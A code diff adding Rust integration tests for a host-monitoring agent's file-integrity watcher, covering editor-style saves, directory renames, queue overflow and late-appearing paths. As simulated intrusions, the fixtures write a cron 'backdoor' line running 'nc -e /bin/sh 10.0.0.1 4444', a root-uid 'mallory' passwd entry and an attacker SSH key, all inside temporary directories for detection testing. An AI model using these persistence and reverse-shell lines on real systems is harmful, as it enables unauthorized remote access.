@@ -196,3 +196,145 @@ change = "allow"
     );
     assert!(agent.terminate(Duration::from_secs(10)).success());
 }
+
+/// Starts an agent watching `paths` (a comma-separated list) and waits until its first manifest
+/// is written; returns it and its host.
+async fn watching(c: &Collector, dir: &Path, paths: &str) -> (crate::support::Guard, proto::Host) {
+    let role = unique("fimlive");
+    let manifest = dir.join("agent-state").join("files.manifest");
+    let agent = start_agent_with(c, dir, &format!("role={role}"), &[("HOSTWATCH_FILES_PATHS", paths)]);
+    wait_for("the first manifest", WAIT, async || manifest.exists().then_some(())).await;
+    let host = wait_for("the host online", WAIT, async || {
+        let hosts: Vec<proto::Host> = c.cli_json(&["hosts"]);
+        hosts.into_iter().find(|h| h.tags.get("role") == Some(&role) && h.status == proto::HostStatus::Online)
+    })
+    .await;
+    (agent, host)
+}
+
+/// Waits until the changes reported for `host` include every (path, change) of `expected`.
+async fn until_reported(c: &Collector, host: i64, expected: &[(String, &str)]) -> Vec<proto::FileEvent> {
+    let deadline = std::time::Instant::now() + WAIT;
+    loop {
+        let ev = file_events(c, host);
+        let seen: BTreeSet<(String, &str)> =
+            ev.iter().map(|e| (e.change.path.clone(), e.change.change.as_str())).collect();
+        if expected.iter().all(|x| seen.contains(x)) {
+            return ev;
+        }
+        assert!(std::time::Instant::now() < deadline, "waited {WAIT:?} for {expected:?}; reported: {seen:?}");
+        tokio::time::sleep(Duration::from_millis(200)).await;
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn live_changes_are_reported_as_they_happen_one_change_each() {
+    let dir = tempfile::tempdir().unwrap();
+    let c = Collector::start(dir.path(), "");
+    let tree = dir.path().join("live");
+    make_tree(&tree);
+    let (mut agent, host) = watching(&c, dir.path(), tree.to_str().unwrap()).await;
+    let p = |s: &str| tree.join(s).display().to_string();
+
+    // An editor's save: write a temporary file, rename it over the original, set its mode.
+    let tmp = tree.join("etc/.passwd.swp");
+    write(&tmp, "root:x:0:0:root:/root:/bin/bash\nmallory:x:0:0::/:/bin/sh\n");
+    std::fs::rename(&tmp, tree.join("etc/passwd")).unwrap();
+    std::fs::set_permissions(tree.join("etc/passwd"), std::fs::Permissions::from_mode(0o644)).unwrap();
+    let ev = until_reported(&c, host.id, &[(p("etc/passwd"), "modified")]).await;
+    let passwd: Vec<&proto::FileEvent> = ev.iter().filter(|e| e.change.path == p("etc/passwd")).collect();
+    assert_eq!(passwd.len(), 1, "write, rename and chmod are one change: {passwd:?}");
+    assert_eq!(passwd[0].change.origin, proto::ChangeOrigin::Live);
+    assert!(
+        !ev.iter().any(|e| e.change.path.contains(".passwd.swp")),
+        "the editor's temporary file came and went"
+    );
+
+    // A watched directory deleted and made again is still watched.
+    std::fs::remove_dir_all(tree.join("etc/cron.d")).unwrap();
+    until_reported(&c, host.id, &[(p("etc/cron.d"), "deleted"), (p("etc/cron.d/job"), "deleted")]).await;
+    std::fs::create_dir(tree.join("etc/cron.d")).unwrap();
+    tokio::time::sleep(Duration::from_millis(500)).await;
+    write(&tree.join("etc/cron.d/backdoor"), "* * * * * root nc -e /bin/sh 10.0.0.1 4444\n");
+    until_reported(&c, host.id, &[(p("etc/cron.d"), "created"), (p("etc/cron.d/backdoor"), "created")]).await;
+
+    // A directory renamed: what changes inside it later is reported under its new name.
+    std::fs::rename(tree.join("bin"), tree.join("sbin")).unwrap();
+    until_reported(&c, host.id, &[(p("sbin"), "renamed"), (p("sbin/tool"), "renamed")]).await;
+    tokio::time::sleep(Duration::from_millis(500)).await;
+    write(&tree.join("sbin/tool"), "#!/bin/sh\nevil\n");
+    until_reported(&c, host.id, &[(p("sbin/tool"), "modified")]).await;
+    let ev = file_events(&c, host.id);
+    assert!(
+        !ev.iter()
+            .any(|e| e.change.path.starts_with(&p("bin/"))
+                && e.change.change != proto::FileChangeKind::Renamed),
+        "nothing reported under the old name after the move: {ev:?}"
+    );
+
+    // A symlink retargeted, and a file whose mtime alone is set back.
+    std::fs::remove_file(tree.join("sbin/link")).unwrap();
+    std::os::unix::fs::symlink("/tmp/elsewhere", tree.join("sbin/link")).unwrap();
+    let stamp = std::fs::File::options().write(true).open(tree.join("etc/stamp")).unwrap();
+    stamp.set_modified(std::time::SystemTime::UNIX_EPOCH + Duration::from_secs(1_000_000)).unwrap();
+    drop(stamp);
+    until_reported(&c, host.id, &[(p("sbin/link"), "modified"), (p("etc/stamp"), "metadata")]).await;
+    assert!(agent.terminate(Duration::from_secs(10)).success());
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_queue_overflow_is_counted_and_every_change_still_reported() {
+    let dir = tempfile::tempdir().unwrap();
+    let c = Collector::start(dir.path(), "");
+    let tree = dir.path().join("burst");
+    std::fs::create_dir_all(&tree).unwrap();
+    let (mut agent, host) = watching(&c, dir.path(), tree.to_str().unwrap()).await;
+    // The agent stopped while 50,000 files are made: three events each, far past the kernel's
+    // queue of 16,384, so events are certainly lost.
+    nix::sys::signal::kill(nix::unistd::Pid::from_raw(agent.pid()), nix::sys::signal::Signal::SIGSTOP)
+        .unwrap();
+    const N: usize = 50_000;
+    for i in 0..N {
+        std::fs::write(tree.join(format!("f{i:05}")), b"x").unwrap();
+    }
+    nix::sys::signal::kill(nix::unistd::Pid::from_raw(agent.pid()), nix::sys::signal::Signal::SIGCONT)
+        .unwrap();
+    let created = wait_for("every file reported", Duration::from_secs(180), async || {
+        let ev: Vec<proto::FileEvent> =
+            c.cli_json(&["files", "--host", &host.id.to_string(), "--limit", "100000"]);
+        (ev.len() >= N).then_some(ev)
+    })
+    .await;
+    let paths: BTreeSet<&str> = created.iter().map(|e| e.change.path.as_str()).collect();
+    assert_eq!(paths.len(), N, "each once");
+    assert_eq!(created.len(), N, "each once");
+    assert!(created.iter().all(|e| e.change.change == proto::FileChangeKind::Created));
+    assert!(
+        created.iter().all(|e| e.change.origin == proto::ChangeOrigin::Rescan),
+        "found by the rescan after the overflow"
+    );
+    let h: proto::HostDetail = c.get(&format!("{}/{}", proto::HOSTS_PATH, host.id)).await;
+    let files = h.agent_stats.and_then(|s| s.files).expect("file stats in the heartbeat");
+    assert!(files.overflows >= 1, "{files:?}");
+    assert!(agent.terminate(Duration::from_secs(10)).success());
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_watched_path_that_does_not_exist_is_reported_and_taken_up_when_it_appears() {
+    let dir = tempfile::tempdir().unwrap();
+    let c = Collector::start(dir.path(), "");
+    let later = dir.path().join("not-yet").join("keys");
+    let (mut agent, host) = watching(&c, dir.path(), later.to_str().unwrap()).await;
+    let missing = wait_for("the missing path in the heartbeat", WAIT, async || {
+        let h: proto::HostDetail = c.get(&format!("{}/{}", proto::HOSTS_PATH, host.id)).await;
+        h.agent_stats.and_then(|s| s.files).filter(|f| !f.missing.is_empty()).map(|f| f.missing)
+    })
+    .await;
+    assert_eq!(missing, [later.display().to_string()]);
+    std::fs::create_dir_all(&later).unwrap();
+    write(&later.join("authorized_keys"), "ssh-ed25519 AAAA attacker\n");
+    let key = later.join("authorized_keys").display().to_string();
+    let ev = until_reported(&c, host.id, &[(key.clone(), "created")]).await;
+    assert!(ev.iter().any(|e| e.change.path == key && e.change.origin == proto::ChangeOrigin::Live));
+    assert!(agent.terminate(Duration::from_secs(10)).success());
+}
